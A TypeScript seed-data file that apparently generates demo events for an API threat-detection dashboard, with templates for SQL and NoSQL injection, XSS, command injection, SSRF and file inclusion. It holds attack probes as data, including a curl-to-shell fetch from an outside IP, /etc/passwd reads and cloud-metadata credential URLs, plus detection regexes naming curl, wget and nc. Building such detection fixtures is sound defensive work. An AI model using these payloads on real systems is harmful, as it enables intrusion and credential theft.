import type { Severity } from '../model';

/**
 * The detection (filter) templates the seeded events are flagged by. Ids, categories and severities of
 * the built-in ones follow Akto's threat-detection `ThreatCategory` list; each entry also says what the
 * attacks it catches look like (targeted urls, methods, probes), so events and payloads stay plausible.
 */
export interface TemplateSeed {
  id: string;
  category: string;
  displayName: string;
  /** Defaults to the id, as Akto's built-in templates do. */
  subCategory?: string;
  severity: Severity;
  /** Relative share of the events. */
  weight: number;
  /** What the template looks for (one sentence, used in description and details). */
  detects: string;
  impact: string;
  remediation: string[];
  urls: string[];
  methods: string[];
  /** Attack strings sent in the query (GET) or the body (others); none for path-only probes. */
  probes: string[];
  /** What a response leaks when the attack succeeds. */
  leak: string;
  filter: string;
  /** Raised by aggregation rules over several requests (AGGREGATED events sharing a refId). */
  aggregated?: boolean;
  type?: string;
  author?: string;
}

export const INJECTION_TEMPLATES: TemplateSeed[] = [
  {
    id: 'SQLInjection',
    category: 'SQL_INJECTION',
    displayName: 'SQL Injection',
    severity: 'HIGH',
    weight: 12,
    detects: 'SQL syntax (tautologies, UNION SELECT, stacked queries, time delays) in request parameters',
    impact: 'Attackers can read or modify the database, bypass authentication or take over the host.',
    remediation: [
      'Use parameterised queries or prepared statements for every database call.',
      'Validate input types and lengths against an allow-list before they reach the data layer.',
      'Run the application with a least-privilege database account.',
    ],
    urls: [
      '/rest/products/search',
      '/api/v1/users/login',
      '/api/v2/orders',
      '/rest/user/login',
      '/api/v1/reports/export',
    ],
    methods: ['GET', 'POST'],
    probes: [
      "' OR 1=1--",
      "1' UNION SELECT username,password FROM users--",
      "admin'--",
      '1;SELECT pg_sleep(5)--',
    ],
    leak: '[{"id":1,"email":"admin@juice-sh.op","password":"0192023a7bbd73250516f069df18b500"}]',
    filter: 'request_payload:\n    regex: "(?i)(union\\\\s+select|or\\\\s+1=1|sleep\\\\()"',
  },
  {
    id: 'XSS',
    category: 'XSS',
    displayName: 'Cross-site Scripting (XSS)',
    severity: 'HIGH',
    weight: 10,
    detects: 'script tags, event handlers and javascript: URLs in request parameters',
    impact: 'Injected scripts run in victims\u2019 browsers and can steal sessions or act on their behalf.',
    remediation: [
      'Encode output for its context (HTML, attribute, JavaScript, URL).',
      'Enforce a strict Content-Security-Policy without unsafe-inline.',
      'Reject or sanitise markup in fields that do not need it.',
    ],
    urls: ['/api/v1/comments', '/rest/products/reviews', '/search', '/api/v1/profile', '/feedback'],
    methods: ['GET', 'POST', 'PUT'],
    probes: [
      '<script>alert(document.cookie)</script>',
      '"><img src=x onerror=alert(1)>',
      "javascript:alert('xss')",
    ],
    leak: '{"status":"success","data":{"comment":"<script>alert(document.cookie)</script>"}}',
    filter: 'request_payload:\n    contains_either: ["<script", "onerror=", "javascript:"]',
  },
  {
    id: 'NoSQLInjection',
    category: 'NOSQL_INJECTION',
    displayName: 'NoSQL Injection',
    severity: 'HIGH',
    weight: 5,
    detects: 'MongoDB operators ($ne, $gt, $where, $regex) in JSON bodies and parameters',
    impact: 'Attackers can bypass login checks, dump collections or run server-side JavaScript.',
    remediation: [
      'Reject objects where scalars are expected and strip keys that start with `$`.',
      'Disable server-side JavaScript (`$where`) in the database.',
      'Validate request bodies against a schema.',
    ],
    urls: ['/api/v1/users/login', '/rest/track-order', '/api/v1/products/filter', '/api/v2/sessions'],
    methods: ['POST', 'GET'],
    probes: ['{"$ne": null}', '{"$gt": ""}', '{"$where": "sleep(5000)"}', '{"username": {"$regex": ".*"}}'],
    leak: '{"authentication":{"token":"eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9","umail":"admin@juice-sh.op"}}',
    filter: 'request_payload:\n    regex: "\\\\$(ne|gt|where|regex)"',
  },
  {
    id: 'OSCommandInjection',
    category: 'OS_COMMAND_INJECTION',
    displayName: 'OS Command Injection',
    severity: 'HIGH',
    weight: 8,
    detects: 'shell metacharacters followed by commands (;, |, `, $()) in request parameters',
    impact: 'Attackers can run arbitrary commands on the server with the privileges of the service.',
    remediation: [
      'Never pass request input to a shell; call programs with argument arrays.',
      'Validate input against a strict allow-list (for example an IP address pattern).',
      'Run the service in a locked-down container without a shell where possible.',
    ],
    urls: [
      '/api/v1/tools/ping',
      '/portal/redlion',
      '/cgi-bin/status',
      '/api/v1/diagnostics',
      '/admin/backup',
    ],
    methods: ['GET', 'POST'],
    probes: ['127.0.0.1; cat /etc/passwd', '`id`', '$(curl http://185.220.101.4/x.sh|sh)', '&& uname -a'],
    leak: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)',
    filter: 'request_payload:\n    regex: "(;|\\\\||`|\\\\$\\\\()\\\\s*(cat|id|uname|curl|wget|nc)\\\\b"',
  },
  {
    id: 'WindowsCommandInjection',
    category: 'COMMAND_INJECTION',
    displayName: 'Command Injection',
    severity: 'HIGH',
    weight: 3,
    detects: 'Windows command separators followed by cmd or PowerShell commands',
    impact: 'Attackers can run commands on Windows hosts and pivot into the internal network.',
    remediation: [
      'Never build command lines from request input.',
      'Use APIs instead of shelling out to cmd.exe or PowerShell.',
      'Constrain PowerShell with constrained language mode and application allow-listing.',
    ],
    urls: ['/api/v1/tools/ping', '/api/v1/export', '/scripts/run'],
    methods: ['POST'],
    probes: ['& type C:\\Windows\\win.ini', '| powershell -enc SQBFAFgA', '&& whoami /all'],
    leak: '; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]',
    filter: 'request_payload:\n    regex: "(?i)(&|\\\\|)\\\\s*(type|powershell|whoami|cmd)"',
  },
  {
    id: 'SSRF',
    category: 'SSRF',
    displayName: 'Server Side Request Forgery (SSRF)',
    severity: 'HIGH',
    weight: 5,
    detects: 'internal, metadata-service and non-HTTP URLs in parameters the server fetches',
    impact: 'Attackers can reach internal services and steal cloud credentials from metadata endpoints.',
    remediation: [
      'Fetch only allow-listed hosts and schemes; resolve and check the IP before connecting.',
      'Block link-local, loopback and private ranges on egress.',
      'Require IMDSv2 (session tokens) for cloud metadata.',
    ],
    urls: ['/api/v1/webhooks/test', '/api/v1/images/fetch', '/proxy', '/api/v1/import/url'],
    methods: ['POST', 'GET'],
    probes: [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://metadata.google.internal/computeMetadata/v1/',
      'http://127.0.0.1:6379/',
      'gopher://localhost:11211/_stats',
    ],
    leak: '{"Code":"Success","AccessKeyId":"ASIA4EXAMPLE","Type":"AWS-HMAC"}',
    filter:
      'request_payload:\n    regex: "(169\\\\.254\\\\.169\\\\.254|metadata\\\\.google|127\\\\.0\\\\.0\\\\.1|gopher://)"',
  },
  {
    id: 'LocalFileInclusionLFIRFI',
    category: 'LFI_RFI',
    displayName: 'Local File Inclusion / Remote File Inclusion',
    severity: 'HIGH',
    weight: 25,
    detects: 'path traversal sequences and requests for well-known sensitive files (.env, config, passwd)',
    impact: 'Attackers can read secrets and source code, or include remote code that the server runs.',
    remediation: [
      'Never build file paths from request input; map choices to an allow-list of server-side files.',
      'Canonicalise the resolved path and reject it unless it stays inside the intended base directory.',
      'Do not serve dotfiles, backups or configuration files from the web root.',
    ],
    urls: [
      '/.env',
      '/config.php',
      '/admin/config.php',
      '/.chef/config.rb',
      '/.git/config',
      '/wp-config.php.bak',
      '/.aws/credentials',
      '/static/../../../../etc/passwd',
    ],
    methods: ['GET', 'HEAD', 'POST'],
    probes: [],
    leak: 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
    filter: 'url:\n    contains_either: ["../", ".env", "config.php", "/etc/passwd"]',
  },
];
